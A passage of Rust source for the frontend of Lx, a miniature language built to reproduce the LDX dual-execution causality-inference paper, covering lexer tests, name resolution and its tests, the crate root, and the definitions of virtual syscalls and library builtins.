                TokenKind::EqEq,
                TokenKind::NotEq,
                TokenKind::Le,
                TokenKind::Ge,
                TokenKind::AndAnd,
                TokenKind::OrOr,
                TokenKind::Bang,
                TokenKind::Lt,
                TokenKind::Gt,
                TokenKind::Assign,
                TokenKind::Amp,
                TokenKind::Eof,
            ]
        );
    }

    #[test]
    fn lexes_string_with_escapes() {
        assert_eq!(
            kinds(r#""a\nb\"c""#),
            vec![TokenKind::Str("a\nb\"c".into()), TokenKind::Eof]
        );
    }

    #[test]
    fn skips_line_comments() {
        assert_eq!(
            kinds("1 // comment to end of line\n2"),
            vec![TokenKind::Int(1), TokenKind::Int(2), TokenKind::Eof]
        );
    }

    #[test]
    fn slash_alone_is_division() {
        assert_eq!(
            kinds("8 / 2"),
            vec![
                TokenKind::Int(8),
                TokenKind::Slash,
                TokenKind::Int(2),
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn tracks_line_and_column() {
        let toks = lex("a\n  b").unwrap();
        assert_eq!(toks[0].span, Span::new(1, 1));
        assert_eq!(toks[1].span, Span::new(2, 3));
    }

    #[test]
    fn rejects_unterminated_string() {
        let err = lex("\"abc").unwrap_err();
        assert!(err.message().contains("unterminated"));
    }

    #[test]
    fn rejects_unknown_escape() {
        let err = lex(r#""\q""#).unwrap_err();
        assert!(err.message().contains("unknown escape"));
    }

    #[test]
    fn rejects_single_pipe() {
        assert!(lex("a | b").is_err());
    }

    #[test]
    fn rejects_out_of_range_integer() {
        let err = lex("99999999999999999999").unwrap_err();
        assert!(err.message().contains("out of range"));
    }

    #[test]
    fn rejects_unrecognized_character() {
        let err = lex("let x = @;").unwrap_err();
        assert!(err.message().contains("unrecognized"));
    }

    #[test]
    fn keywords_vs_identifiers() {
        assert_eq!(
            kinds("iffy if format for"),
            vec![
                TokenKind::Ident("iffy".into()),
                TokenKind::If,
                TokenKind::Ident("format".into()),
                TokenKind::For,
                TokenKind::Eof,
            ]
        );
    }

    #[test]
    fn empty_input_is_just_eof() {
        assert_eq!(kinds(""), vec![TokenKind::Eof]);
        assert_eq!(kinds("   \n\t  "), vec![TokenKind::Eof]);
    }
}
