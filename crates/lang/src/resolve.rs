//! Name resolution and semantic checks for Lx.
//!
//! Resolution validates the program (unique definitions, bound names, builtin
//! arities, `break`/`continue` placement) and performs one rewrite: a direct
//! call `f(x)` where `f` is a *variable* rather than a function is
//! reclassified as an indirect call, so later stages can rely on
//! [`ExprKind::Call`] always naming a user function or builtin.

use crate::ast::{Block, Expr, ExprKind, Function, Item, LValue, Program, Stmt, StmtKind};
use crate::builtins::builtin;
use crate::error::{LangError, Span};
use std::collections::{HashMap, HashSet};

/// A resolved, semantically valid Lx program.
///
/// Produced by [`resolve`]; consumed by the IR lowering in `ldx-ir`.
#[derive(Debug, Clone, PartialEq)]
pub struct ResolvedProgram {
    program: Program,
    global_order: Vec<String>,
}

impl ResolvedProgram {
    /// The underlying (rewritten) program.
    pub fn program(&self) -> &Program {
        &self.program
    }

    /// Global variable names in declaration order (their runtime slots).
    pub fn global_order(&self) -> &[String] {
        &self.global_order
    }
}

/// Checks and rewrites a parsed program.
///
/// # Errors
///
/// Returns a [`LangError`] on duplicate definitions, unknown names, calls
/// with wrong builtin/function arity, non-constant global initializers,
/// `break`/`continue` outside loops, missing `main`, or `main` taking
/// parameters.
pub fn resolve(program: Program) -> Result<ResolvedProgram, LangError> {
    let mut functions: HashMap<String, usize> = HashMap::new();
    let mut globals: Vec<String> = Vec::new();
    let mut global_set: HashSet<String> = HashSet::new();

    for item in program.items() {
        match item {
            Item::Function(f) => {
                if builtin(&f.name).is_some() {
                    return Err(LangError::new(
                        f.span,
                        format!("function `{}` shadows a builtin", f.name),
                    ));
                }
                if functions.insert(f.name.clone(), f.params.len()).is_some() {
                    return Err(LangError::new(
                        f.span,
                        format!("duplicate function `{}`", f.name),
                    ));
                }
                let mut seen = HashSet::new();
                for p in &f.params {
                    if !seen.insert(p.clone()) {
                        return Err(LangError::new(
                            f.span,
                            format!("duplicate parameter `{p}` in `{}`", f.name),
                        ));
                    }
                }
            }
            Item::Global { name, init, span } => {
                if builtin(name).is_some() {
                    return Err(LangError::new(
                        *span,
                        format!("global `{name}` shadows a builtin"),
                    ));
                }
                if !global_set.insert(name.clone()) {
                    return Err(LangError::new(*span, format!("duplicate global `{name}`")));
                }
                globals.push(name.clone());
                check_const_expr(init)?;
            }
        }
    }

    for name in &globals {
        if functions.contains_key(name) {
            return Err(LangError::new(
                Span::synthesized(),
                format!("`{name}` is defined as both a global and a function"),
            ));
        }
    }

    match functions.get("main") {
        None => {
            return Err(LangError::new(
                Span::synthesized(),
                "program has no `main` function",
            ))
        }
        Some(&arity) if arity != 0 => {
            return Err(LangError::new(
                Span::synthesized(),
                "`main` must take no parameters",
            ))
        }
        Some(_) => {}
    }

    let ctx = Ctx {
        functions: &functions,
        globals: &global_set,
    };

    let items = program
        .items()
        .iter()
        .map(|item| match item {
            Item::Global { .. } => Ok(item.clone()),
            Item::Function(f) => {
                let mut scopes = Scopes::new(&f.params);
                let body = resolve_block(&f.body, &ctx, &mut scopes, 0)?;
                Ok(Item::Function(Function {
                    name: f.name.clone(),
                    params: f.params.clone(),
                    body,
                    span: f.span,
                }))
            }
        })
        .collect::<Result<Vec<_>, LangError>>()?;

    Ok(ResolvedProgram {
        program: Program::new(items),
        global_order: globals,
    })
}

fn check_const_expr(e: &Expr) -> Result<(), LangError> {
    match &e.kind {
        ExprKind::Int(_) | ExprKind::Str(_) => Ok(()),
        ExprKind::Unary { operand, .. } => check_const_expr(operand),
        ExprKind::Array(elems) => {
            for el in elems {
                check_const_expr(el)?;
            }
            Ok(())
        }
        _ => Err(LangError::new(
            e.span,
            "global initializers must be constant expressions",
        )),
    }
}

struct Ctx<'a> {
    functions: &'a HashMap<String, usize>,
    globals: &'a HashSet<String>,
}

struct Scopes {
    stack: Vec<HashSet<String>>,
}

impl Scopes {
    fn new(params: &[String]) -> Self {
        Scopes {
            stack: vec![params.iter().cloned().collect()],
        }
    }

    fn push(&mut self) {
        self.stack.push(HashSet::new());
    }

    fn pop(&mut self) {
        self.stack.pop();
    }

    fn declare(&mut self, name: &str, span: Span) -> Result<(), LangError> {
        for scope in &self.stack {
            if scope.contains(name) {
                return Err(LangError::new(
                    span,
                    format!("`{name}` is already declared in an enclosing scope"),
                ));
            }
        }
        self.stack
            .last_mut()
            .expect("scope stack never empty")
            .insert(name.to_string());
        Ok(())
    }

    fn is_local(&self, name: &str) -> bool {
        self.stack.iter().any(|s| s.contains(name))
    }
}

fn resolve_block(
    block: &Block,
    ctx: &Ctx<'_>,
    scopes: &mut Scopes,
    loop_depth: u32,
) -> Result<Block, LangError> {
    scopes.push();
    let stmts = block
        .stmts
        .iter()
        .map(|s| resolve_stmt(s, ctx, scopes, loop_depth))
        .collect::<Result<Vec<_>, _>>();
    scopes.pop();
    Ok(Block::new(stmts?))
}

fn resolve_stmt(
    stmt: &Stmt,
    ctx: &Ctx<'_>,
    scopes: &mut Scopes,
    loop_depth: u32,
) -> Result<Stmt, LangError> {
    let span = stmt.span;
    let kind = match &stmt.kind {
        StmtKind::Let { name, init } => {
            let init = resolve_expr(init, ctx, scopes)?;
            scopes.declare(name, span)?;
            StmtKind::Let {
                name: name.clone(),
                init,
            }
        }
        StmtKind::Assign { target, value } => {
            let tname = match target {
                LValue::Var(n) => n,
                LValue::Index { name, .. } => name,
            };
            if !scopes.is_local(tname) && !ctx.globals.contains(tname) {
                return Err(LangError::new(
                    span,
                    format!("assignment to undeclared variable `{tname}`"),
                ));
            }
            let target = match target {
                LValue::Var(n) => LValue::Var(n.clone()),
                LValue::Index { name, index } => LValue::Index {
                    name: name.clone(),
                    index: Box::new(resolve_expr(index, ctx, scopes)?),
                },
            };
            StmtKind::Assign {
                target,
                value: resolve_expr(value, ctx, scopes)?,
            }
        }
        StmtKind::If {
            cond,
            then_block,
            else_block,
        } => StmtKind::If {
            cond: resolve_expr(cond, ctx, scopes)?,
            then_block: resolve_block(then_block, ctx, scopes, loop_depth)?,
            else_block: resolve_block(else_block, ctx, scopes, loop_depth)?,
        },
        StmtKind::While { cond, body } => StmtKind::While {
            cond: resolve_expr(cond, ctx, scopes)?,
            body: resolve_block(body, ctx, scopes, loop_depth + 1)?,
        },
        StmtKind::For {
            init,
            cond,
            step,
            body,
        } => {
            // The `for` header introduces its own scope for the init `let`.
            scopes.push();
            let init = init
                .as_ref()
                .map(|s| resolve_stmt(s, ctx, scopes, loop_depth).map(Box::new))
                .transpose()?;
            let cond = cond
                .as_ref()
                .map(|c| resolve_expr(c, ctx, scopes))
                .transpose()?;
            let step = step
                .as_ref()
                .map(|s| resolve_stmt(s, ctx, scopes, loop_depth + 1).map(Box::new))
                .transpose()?;
            let body = resolve_block(body, ctx, scopes, loop_depth + 1)?;
            scopes.pop();
            StmtKind::For {
                init,
                cond,
                step,
                body,
            }
        }
        StmtKind::Return(v) => StmtKind::Return(
            v.as_ref()
                .map(|e| resolve_expr(e, ctx, scopes))
                .transpose()?,
        ),
        StmtKind::Break => {
            if loop_depth == 0 {
                return Err(LangError::new(span, "`break` outside of a loop"));
            }
            StmtKind::Break
        }
        StmtKind::Continue => {
            if loop_depth == 0 {
                return Err(LangError::new(span, "`continue` outside of a loop"));
            }
            StmtKind::Continue
        }
        StmtKind::Expr(e) => StmtKind::Expr(resolve_expr(e, ctx, scopes)?),
    };
    Ok(Stmt { kind, span })
}

fn resolve_expr(expr: &Expr, ctx: &Ctx<'_>, scopes: &mut Scopes) -> Result<Expr, LangError> {
    let span = expr.span;
    let kind = match &expr.kind {
        ExprKind::Int(_) | ExprKind::Str(_) => expr.kind.clone(),
        ExprKind::Var(name) => {
            if scopes.is_local(name) || ctx.globals.contains(name) {
                ExprKind::Var(name.clone())
            } else if ctx.functions.contains_key(name) {
                return Err(LangError::new(
                    span,
                    format!("function `{name}` used as a value; write `&{name}`"),
                ));
            } else {
                return Err(LangError::new(span, format!("unknown variable `{name}`")));
            }
        }
        ExprKind::FuncRef(name) => {
            if !ctx.functions.contains_key(name) {
                return Err(LangError::new(
                    span,
                    format!("`&{name}` does not name a function"),
                ));
            }
            ExprKind::FuncRef(name.clone())
        }
        ExprKind::Array(elems) => ExprKind::Array(
            elems
                .iter()
                .map(|e| resolve_expr(e, ctx, scopes))
                .collect::<Result<Vec<_>, _>>()?,
        ),
        ExprKind::Unary { op, operand } => ExprKind::Unary {
            op: *op,
            operand: Box::new(resolve_expr(operand, ctx, scopes)?),
        },
        ExprKind::Binary { op, lhs, rhs } => ExprKind::Binary {
            op: *op,
            lhs: Box::new(resolve_expr(lhs, ctx, scopes)?),
            rhs: Box::new(resolve_expr(rhs, ctx, scopes)?),
        },
        ExprKind::Index { base, index } => ExprKind::Index {
            base: Box::new(resolve_expr(base, ctx, scopes)?),
            index: Box::new(resolve_expr(index, ctx, scopes)?),
        },
        ExprKind::Call { callee, args } => {
            let args = args
                .iter()
                .map(|a| resolve_expr(a, ctx, scopes))
                .collect::<Result<Vec<_>, _>>()?;
            if scopes.is_local(callee) || ctx.globals.contains(callee) {
                // A variable used in call position: an indirect call.
                ExprKind::CallIndirect {
                    callee: Box::new(Expr::new(ExprKind::Var(callee.clone()), span)),
                    args,
                }
            } else if let Some(&arity) = ctx.functions.get(callee) {
                if args.len() != arity {
                    return Err(LangError::new(
                        span,
                        format!("`{callee}` takes {arity} argument(s), {} given", args.len()),
                    ));
                }
                ExprKind::Call {
                    callee: callee.clone(),
                    args,
                }
            } else if let Some(b) = builtin(callee) {
                if args.len() != b.arity {
                    return Err(LangError::new(
                        span,
                        format!(
                            "builtin `{callee}` takes {} argument(s), {} given",
                            b.arity,
                            args.len()
                        ),
                    ));
                }
                ExprKind::Call {
                    callee: callee.clone(),
                    args,
                }
            } else {
                return Err(LangError::new(span, format!("unknown function `{callee}`")));
            }
        }
        ExprKind::CallIndirect { callee, args } => ExprKind::CallIndirect {
            callee: Box::new(resolve_expr(callee, ctx, scopes)?),
            args: args
                .iter()
                .map(|a| resolve_expr(a, ctx, scopes))
                .collect::<Result<Vec<_>, _>>()?,
        },
    };
    Ok(Expr { kind, span })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compile;

    #[test]
    fn accepts_well_formed_program() {
        let p = compile(
            r#"
            global total = 0;
            fn helper(x) { return x * 2; }
            fn main() {
                let a = helper(21);
                total = a;
            }
            "#,
        )
        .unwrap();
        assert_eq!(p.global_order(), ["total"]);
    }

    #[test]
    fn requires_main() {
        let err = compile("fn helper() {}").unwrap_err();
        assert!(err.message().contains("main"));
    }

    #[test]
    fn main_must_be_nullary() {
        let err = compile("fn main(x) {}").unwrap_err();
        assert!(err.message().contains("no parameters"));
    }

    #[test]
    fn rejects_unknown_variable() {
        let err = compile("fn main() { let x = y; }").unwrap_err();
        assert!(err.message().contains("unknown variable `y`"));
    }

    #[test]
    fn rejects_unknown_function() {
        let err = compile("fn main() { mystery(); }").unwrap_err();
        assert!(err.message().contains("unknown function"));
    }

    #[test]
    fn checks_user_function_arity() {
        let err = compile("fn f(a, b) { return a; } fn main() { f(1); }").unwrap_err();
        assert!(err.message().contains("takes 2 argument(s)"));
    }

    #[test]
    fn checks_builtin_arity() {
        let err = compile("fn main() { open(\"f\"); }").unwrap_err();
        assert!(err.message().contains("takes 2 argument(s)"));
    }

    #[test]
    fn rejects_duplicate_function() {
        let err = compile("fn main() {} fn main() {}").unwrap_err();
        assert!(err.message().contains("duplicate function"));
    }

    #[test]
    fn rejects_duplicate_global() {
        let err = compile("global g = 1; global g = 2; fn main() {}").unwrap_err();
        assert!(err.message().contains("duplicate global"));
    }

    #[test]
    fn rejects_function_shadowing_builtin() {
        let err = compile("fn open(a, b) {} fn main() {}").unwrap_err();
        assert!(err.message().contains("shadows a builtin"));
    }

    #[test]
    fn rejects_nonconst_global_init() {
        let err = compile("global g = getpid(); fn main() {}").unwrap_err();
        assert!(err.message().contains("constant"));
    }

    #[test]
    fn rejects_break_outside_loop() {
        let err = compile("fn main() { break; }").unwrap_err();
        assert!(err.message().contains("break"));
    }

    #[test]
    fn allows_break_inside_loop() {
        assert!(compile("fn main() { while (1) { break; } }").is_ok());
    }

    #[test]
    fn rejects_continue_outside_loop() {
        let err = compile("fn main() { continue; }").unwrap_err();
        assert!(err.message().contains("continue"));
    }

    #[test]
    fn variable_call_becomes_indirect() {
        let p = compile(
            r#"
            fn double(x) { return x * 2; }
            fn main() { let f = &double; let r = f(21); }
            "#,
        )
        .unwrap();
        let main = p.program().function("main").unwrap();
        let StmtKind::Let { init, .. } = &main.body.stmts[1].kind else {
            panic!()
        };
        assert!(matches!(init.kind, ExprKind::CallIndirect { .. }));
    }

    #[test]
    fn function_name_as_value_needs_ampersand() {
        let err = compile("fn f() {} fn main() { let x = f; }").unwrap_err();
        assert!(err.message().contains("&f"));
    }

    #[test]
    fn funcref_must_name_function() {
        let err = compile("fn main() { let x = &nothing; }").unwrap_err();
        assert!(err.message().contains("does not name a function"));
    }

    #[test]
    fn rejects_shadowing_in_nested_scope() {
        let err = compile("fn main() { let x = 1; if (x) { let x = 2; } }").unwrap_err();
        assert!(err.message().contains("already declared"));
    }

    #[test]
    fn sibling_scopes_may_reuse_names() {
        assert!(
            compile("fn main() { if (1) { let t = 1; } else { let t = 2; } let t = 3; }").is_ok()
        );
    }

    #[test]
    fn for_header_scope_is_confined() {
        assert!(compile(
            "fn main() { for (let i = 0; i < 3; i = i + 1) {} for (let i = 0; i < 2; i = i + 1) {} }"
        )
        .is_ok());
    }

    #[test]
    fn assignment_to_undeclared_rejected() {
        let err = compile("fn main() { x = 3; }").unwrap_err();
        assert!(err.message().contains("undeclared"));
    }

    #[test]
    fn global_assignment_allowed() {
        assert!(compile("global g = 0; fn main() { g = 3; g[0] = 1; }").is_ok());
    }
}
