//! Lx: the miniature imperative language used by the LDX reproduction.
//!
//! The original LDX paper implements its counter-instrumentation pass inside
//! LLVM 3.4 and evaluates on C programs. This workspace substitutes a small,
//! hermetic C-like language — **Lx** — so that the whole pipeline (parse →
//! lower to a CFG → instrument → dually execute) is reproducible as a pure
//! Rust library. Everything the instrumentation scheme cares about is
//! present: functions, branches, loops, recursion, indirect calls through
//! function references, and *syscalls* (virtual OS operations exposed as
//! builtins).
//!
//! # Example
//!
//! ```
//! use ldx_lang::parse;
//!
//! let program = parse(r#"
//!     fn main() {
//!         let fd = open("employee.txt", 0);
//!         let title = read(fd, 16);
//!         if (title == "MANAGER") {
//!             write(1, "manager\n");
//!         }
//!         close(fd);
//!     }
//! "#)?;
//! assert_eq!(program.functions().count(), 1);
//! # Ok::<(), ldx_lang::LangError>(())
//! ```

mod ast;
mod builtins;
mod error;
mod lexer;
mod parser;
pub mod pretty;
mod resolve;
mod token;

pub use ast::{
    BinaryOp, Block, Expr, ExprKind, Function, Item, LValue, Program, Stmt, StmtKind, UnaryOp,
};
pub use builtins::{builtin, Builtin, BuiltinKind, LibFn, Syscall, SYSCALL_COUNT};
pub use error::{LangError, Span};
pub use lexer::{lex, Lexer};
pub use parser::Parser;
pub use resolve::{resolve, ResolvedProgram};
pub use token::{Token, TokenKind};

/// Parses Lx source into a syntactically valid [`Program`].
///
/// This performs lexing and parsing only; call [`resolve`] afterwards (or use
/// [`compile`]) to check name binding, arities and assignability.
///
/// # Errors
///
/// Returns a [`LangError`] describing the first lexical or syntactic problem,
/// including its source location.
pub fn parse(source: &str) -> Result<Program, LangError> {
    let tokens = lex(source)?;
    Parser::new(tokens).parse_program()
}

/// Parses **and resolves** Lx source: the one-call frontend entry point.
///
/// # Errors
///
/// Returns a [`LangError`] for lexical, syntactic, or semantic problems
/// (unknown names, bad builtin arities, assignment to functions, `break`
/// outside loops, and so on).
pub fn compile(source: &str) -> Result<ResolvedProgram, LangError> {
    resolve(parse(source)?)
}
