//! Builtin functions: virtual **syscalls** and pure **library functions**.
//!
//! The distinction matters for the LDX instrumentation: the progress counter
//! counts *syscalls* (paper §4.1), so every [`Syscall`] call site contributes
//! `+1` to the static counter analysis, while [`LibFn`] calls are ordinary
//! computation. At runtime, syscalls are routed through the dual-execution
//! wrappers (paper Algorithm 2) and the virtual OS; library functions are
//! evaluated in-process.

use std::fmt;

/// Virtual syscalls understood by the Lx runtime.
///
/// These mirror the classes of Linux syscalls the paper's evaluation
/// exercises: file I/O, directory manipulation, networking, identity/time/
/// randomness, pthread-style synchronization (which LDX treats as syscalls,
/// paper §7), process control, and setjmp/longjmp (paper §6).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[repr(u8)]
pub enum Syscall {
    /// `open(path, flags) -> fd` — flags: 0 read, 1 write/truncate, 2 append.
    Open = 0,
    /// `read(fd, n) -> str` — reads up to `n` bytes.
    Read,
    /// `write(fd, data) -> n` — writes `data`, returns bytes written.
    Write,
    /// `close(fd) -> 0`
    Close,
    /// `seek(fd, pos) -> 0`
    Seek,
    /// `stat(path) -> size | -1`
    Stat,
    /// `mkdir(path) -> 0 | -1`
    Mkdir,
    /// `unlink(path) -> 0 | -1`
    Unlink,
    /// `rename(old, new) -> 0 | -1`
    Rename,
    /// `readdir(path) -> str` — newline-joined entry names.
    Readdir,
    /// `connect(host) -> sock`
    Connect,
    /// `send(sock, data) -> n`
    Send,
    /// `recv(sock, n) -> str`
    Recv,
    /// `accept(port) -> sock | -1` — accepts the next scripted client.
    Accept,
    /// `getpid() -> int`
    GetPid,
    /// `time() -> int` — virtual nanosecond clock (nondeterministic input,
    /// like `rdtsc` in the paper: the slave reuses the master's outcome).
    Time,
    /// `random() -> int` — virtual entropy (slave reuses master's outcome).
    Random,
    /// `lock(id) -> 0` — pthread-mutex-like acquire; outcome (grant order)
    /// is shared master→slave per paper §7.
    Lock,
    /// `unlock(id) -> 0`
    Unlock,
    /// `spawn(&f, arg) -> tid` — starts an Lx thread.
    Spawn,
    /// `join(tid) -> int` — waits for a thread, returns its result.
    Join,
    /// `sleep(n) -> 0` — advances the virtual clock.
    Sleep,
    /// `exit(code)` — terminates the Lx program.
    Exit,
    /// `setjmp() -> int` — saves a continuation, returns 0 (or the longjmp
    /// value on re-entry). Counter stack is saved per paper §6.
    Setjmp,
    /// `longjmp(val)` — jumps to the most recent `setjmp`; an artificial
    /// sink precedes it per paper §6.
    Longjmp,
}

/// The number of distinct [`Syscall`] variants (for dense tables).
pub const SYSCALL_COUNT: usize = 25;

impl Syscall {
    /// All syscalls, in numeric order.
    pub const ALL: [Syscall; SYSCALL_COUNT] = [
        Syscall::Open,
        Syscall::Read,
        Syscall::Write,
        Syscall::Close,
        Syscall::Seek,
        Syscall::Stat,
        Syscall::Mkdir,
        Syscall::Unlink,
        Syscall::Rename,
        Syscall::Readdir,
        Syscall::Connect,
        Syscall::Send,
        Syscall::Recv,
        Syscall::Accept,
        Syscall::GetPid,
        Syscall::Time,
        Syscall::Random,
        Syscall::Lock,
        Syscall::Unlock,
        Syscall::Spawn,
        Syscall::Join,
        Syscall::Sleep,
        Syscall::Exit,
        Syscall::Setjmp,
        Syscall::Longjmp,
    ];

    /// The syscall's stable numeric id.
    pub fn number(self) -> u8 {
        self as u8
    }

    /// The Lx-visible name.
    pub fn name(self) -> &'static str {
        match self {
            Syscall::Open => "open",
            Syscall::Read => "read",
            Syscall::Write => "write",
            Syscall::Close => "close",
            Syscall::Seek => "seek",
            Syscall::Stat => "stat",
            Syscall::Mkdir => "mkdir",
            Syscall::Unlink => "unlink",
            Syscall::Rename => "rename",
            Syscall::Readdir => "readdir",
            Syscall::Connect => "connect",
            Syscall::Send => "send",
            Syscall::Recv => "recv",
            Syscall::Accept => "accept",
            Syscall::GetPid => "getpid",
            Syscall::Time => "time",
            Syscall::Random => "random",
            Syscall::Lock => "lock",
            Syscall::Unlock => "unlock",
            Syscall::Spawn => "spawn",
            Syscall::Join => "join",
            Syscall::Sleep => "sleep",
            Syscall::Exit => "exit",
            Syscall::Setjmp => "setjmp",
            Syscall::Longjmp => "longjmp",
        }
    }

    /// Whether this syscall produces data *into* the program (an input in
    /// the paper's source/sink terminology). Input syscall outcomes are the
    /// ones the slave reuses from the master when aligned.
    pub fn is_input(self) -> bool {
        matches!(
            self,
            Syscall::Read
                | Syscall::Recv
                | Syscall::Accept
                | Syscall::Readdir
                | Syscall::Stat
                | Syscall::GetPid
                | Syscall::Time
                | Syscall::Random
        )
    }

    /// Whether this syscall emits data *out of* the program — a candidate
    /// sink for causality inference (file writes, network sends).
    pub fn is_output(self) -> bool {
        matches!(self, Syscall::Write | Syscall::Send)
    }

    /// Whether this syscall is always executed independently by both
    /// executions rather than shared (paper §4.2 "some special syscalls are
    /// always executed independently such as process creation").
    pub fn always_independent(self) -> bool {
        matches!(self, Syscall::Spawn | Syscall::Join | Syscall::Exit)
    }

    /// Fixed number of arguments.
    pub fn arity(self) -> usize {
        match self {
            Syscall::GetPid | Syscall::Time | Syscall::Random | Syscall::Setjmp => 0,
            Syscall::Close
            | Syscall::Stat
            | Syscall::Mkdir
            | Syscall::Unlink
            | Syscall::Readdir
            | Syscall::Connect
            | Syscall::Accept
            | Syscall::Lock
            | Syscall::Unlock
            | Syscall::Join
            | Syscall::Sleep
            | Syscall::Exit
            | Syscall::Longjmp => 1,
            Syscall::Open
            | Syscall::Read
            | Syscall::Write
            | Syscall::Seek
            | Syscall::Send
            | Syscall::Recv
            | Syscall::Rename
            | Syscall::Spawn => 2,
        }
    }

    /// Looks a syscall up by its numeric id.
    pub fn from_number(n: u8) -> Option<Syscall> {
        Syscall::ALL.get(n as usize).copied()
    }
}

impl fmt::Display for Syscall {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name())
    }
}

/// Pure library functions evaluated in-process (no counter effect).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LibFn {
    /// `len(x)` — string or array length.
    Len,
    /// `str(x)` — convert to string.
    Str,
    /// `int(x)` — parse/convert to integer (0 on failure).
    Int,
    /// `substr(s, start, len)` — substring (clamped).
    Substr,
    /// `find(s, needle)` — first index or -1.
    Find,
    /// `ord(s, i)` — byte value at index (clamped to 0 when out of range).
    Ord,
    /// `chr(i)` — one-character string from a byte value.
    Chr,
    /// `min(a, b)`
    Min,
    /// `max(a, b)`
    Max,
    /// `abs(a)`
    Abs,
    /// `array(n, init)` — array of `n` copies of `init`.
    ArrayNew,
    /// `push(arr, v)` — returns a new array with `v` appended.
    Push,
    /// `set(arr, i, v)` — returns a new array with element `i` replaced.
    Set,
    /// `sort(arr)` — returns a sorted copy.
    Sort,
    /// `hash(x)` — deterministic FNV-1a style hash.
    Hash,
    /// `repeat(s, n)` — string repetition.
    Repeat,
    /// `split(s, sep)` — array of pieces.
    Split,
    /// `join(arr, sep)` — concatenation with separator. (Named `strjoin` in
    /// Lx to avoid clashing with the thread `join` syscall.)
    StrJoin,
    /// `trim(s)` — strips ASCII whitespace.
    Trim,
    /// `upper(s)` / `lower(s)` — ASCII case conversion.
    Upper,
    /// See [`LibFn::Upper`].
    Lower,
}

impl LibFn {
    /// The Lx-visible name.
    pub fn name(self) -> &'static str {
        match self {
            LibFn::Len => "len",
            LibFn::Str => "str",
            LibFn::Int => "int",
            LibFn::Substr => "substr",
            LibFn::Find => "find",
            LibFn::Ord => "ord",
            LibFn::Chr => "chr",
            LibFn::Min => "min",
            LibFn::Max => "max",
            LibFn::Abs => "abs",
            LibFn::ArrayNew => "array",
            LibFn::Push => "push",
            LibFn::Set => "set",
            LibFn::Sort => "sort",
            LibFn::Hash => "hash",
            LibFn::Repeat => "repeat",
            LibFn::Split => "split",
            LibFn::StrJoin => "strjoin",
            LibFn::Trim => "trim",
            LibFn::Upper => "upper",
            LibFn::Lower => "lower",
        }
    }

    /// Fixed number of arguments.
    pub fn arity(self) -> usize {
        match self {
            LibFn::Len
            | LibFn::Str
            | LibFn::Int
            | LibFn::Abs
            | LibFn::Chr
            | LibFn::Sort
            | LibFn::Hash
            | LibFn::Trim
            | LibFn::Upper
            | LibFn::Lower => 1,
            LibFn::Find
            | LibFn::Ord
            | LibFn::Min
            | LibFn::Max
            | LibFn::ArrayNew
            | LibFn::Push
            | LibFn::Repeat
            | LibFn::Split
            | LibFn::StrJoin => 2,
            LibFn::Substr | LibFn::Set => 3,
        }
    }

    /// Whether the LIBDFT-like taint policy *fails* to model propagation
    /// through this function.
    ///
    /// The paper (§8.3) observes that LIBDFT's tainted sinks are a strict
    /// subset of TaintGrind's because LIBDFT "does not correctly model taint
    /// propagation for some library calls". We reproduce that gap by marking
    /// a handful of string-library functions as unmodeled.
    pub fn libdft_unmodeled(self) -> bool {
        matches!(
            self,
            LibFn::Substr | LibFn::Ord | LibFn::Chr | LibFn::Repeat | LibFn::Split
        )
    }

    /// All library functions.
    pub const ALL: [LibFn; 21] = [
        LibFn::Len,
        LibFn::Str,
        LibFn::Int,
        LibFn::Substr,
        LibFn::Find,
        LibFn::Ord,
        LibFn::Chr,
        LibFn::Min,
        LibFn::Max,
        LibFn::Abs,
        LibFn::ArrayNew,
        LibFn::Push,
        LibFn::Set,
        LibFn::Sort,
        LibFn::Hash,
        LibFn::Repeat,
        LibFn::Split,
        LibFn::StrJoin,
        LibFn::Trim,
        LibFn::Upper,
        LibFn::Lower,
    ];
}

impl fmt::Display for LibFn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.name())
    }
}

/// What kind of builtin a name denotes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BuiltinKind {
    /// A virtual syscall (counts toward the progress counter).
    Syscall(Syscall),
    /// A pure library function.
    Lib(LibFn),
}

/// A builtin's metadata.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Builtin {
    /// Which builtin this is.
    pub kind: BuiltinKind,
    /// Its fixed arity.
    pub arity: usize,
}

/// Looks up a builtin by its Lx-visible name.
pub fn builtin(name: &str) -> Option<Builtin> {
    for sys in Syscall::ALL {
        if sys.name() == name {
            return Some(Builtin {
                kind: BuiltinKind::Syscall(sys),
                arity: sys.arity(),
            });
        }
    }
    for lib in LibFn::ALL {
        if lib.name() == name {
            return Some(Builtin {
                kind: BuiltinKind::Lib(lib),
                arity: lib.arity(),
            });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn syscall_count_matches_all() {
        assert_eq!(Syscall::ALL.len(), SYSCALL_COUNT);
    }

    #[test]
    fn syscall_numbers_are_dense_and_roundtrip() {
        for (i, sys) in Syscall::ALL.iter().enumerate() {
            assert_eq!(sys.number() as usize, i);
            assert_eq!(Syscall::from_number(sys.number()), Some(*sys));
        }
        assert_eq!(Syscall::from_number(SYSCALL_COUNT as u8), None);
    }

    #[test]
    fn builtin_names_are_unique() {
        let mut seen = HashSet::new();
        for sys in Syscall::ALL {
            assert!(seen.insert(sys.name()), "duplicate name {}", sys.name());
        }
        for lib in LibFn::ALL {
            assert!(seen.insert(lib.name()), "duplicate name {}", lib.name());
        }
    }

    #[test]
    fn lookup_by_name() {
        let open = builtin("open").unwrap();
        assert_eq!(open.kind, BuiltinKind::Syscall(Syscall::Open));
        assert_eq!(open.arity, 2);

        let len = builtin("len").unwrap();
        assert_eq!(len.kind, BuiltinKind::Lib(LibFn::Len));
        assert_eq!(len.arity, 1);

        assert!(builtin("not_a_builtin").is_none());
    }

    #[test]
    fn input_output_classification() {
        assert!(Syscall::Read.is_input());
        assert!(Syscall::Recv.is_input());
        assert!(!Syscall::Write.is_input());
        assert!(Syscall::Write.is_output());
        assert!(Syscall::Send.is_output());
        assert!(!Syscall::Open.is_output());
    }

    #[test]
    fn independent_syscalls() {
        assert!(Syscall::Spawn.always_independent());
